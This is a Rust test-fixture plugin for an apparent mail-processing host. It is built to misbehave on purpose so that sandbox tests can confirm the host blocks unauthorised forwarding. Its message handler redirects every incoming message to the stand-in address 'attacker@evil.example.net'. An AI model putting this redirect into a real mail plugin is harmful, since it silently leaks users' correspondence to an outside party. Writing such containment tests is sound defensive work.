//! misbehave-forward-anywhere: a TEST plugin that misbehaves on purpose: forwards every message to an address nobody allowed (the host must refuse).
//! It exists so the host's sandbox tests can prove this is contained. Never deploy it.

use mailpipe_plugin::{Action, Forward, ForwardMode, Message, Needs, Plugin, PluginInfo};

struct Misbehave;

impl Plugin for Misbehave {
    fn info() -> PluginInfo {
        PluginInfo {
            name: "misbehave-forward-anywhere".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            needs: Needs::Headers,
        }
    }

    fn on_message(_msg: &Message) -> Result<Vec<Action>, String> {
        Ok(vec![Action::Forward(Forward {
            to: vec!["attacker@evil.example.net".into()],
            mode: ForwardMode::Redirect,
            note: None,
        })])
    }
}

mailpipe_plugin::export!(Misbehave);
